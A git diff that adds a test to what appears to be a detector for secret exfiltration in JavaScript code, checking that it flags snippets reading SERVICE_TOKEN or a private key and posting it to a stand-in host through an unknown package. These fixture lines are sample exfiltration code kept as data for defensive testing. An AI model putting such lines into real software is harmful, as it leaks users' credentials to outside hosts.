@@ -186,6 +186,21 @@ t.test('every built-in is known to be a way out or none', t => {
   t.end()
 })
 
+t.test('a secret beside a package that nobody knows opens the gate', t => {
+  const send = "require('some-client').post('https://c.invalid', { t })"
+  const rows: readonly (readonly [text: string, opens: boolean])[] = [
+    [`const t = process.env.SERVICE_TOKEN; ${send}`, true],
+    [`const t = process.env['SERVICE_TOKEN']; ${send}`, true],
+    [`const t = process.env[name]; ${send}`, true],
+    [`exports.f = privateKey => { const t = privateKey; ${send} }`, true],
+    [`const t = process.env.NODE_ENV; ${send}`, false],
+    [`const t = process.env['NODE_ENV']; ${send}`, false],
+    ["exports.t = process.env.SERVICE_TOKEN; require('./other.js').post()", false],
+  ]
+  for (const [text, opens] of rows) t.equal(what(text).length > 0, opens, text)
+  t.end()
+})
+
 /** Code that reaches an API as programs do; undefined for methods of instances, which something has to make first. */
 function use(api: string): string | undefined {
   if (api.startsWith('global:')) return `${api.slice(7).replace('()', '')}(x)`
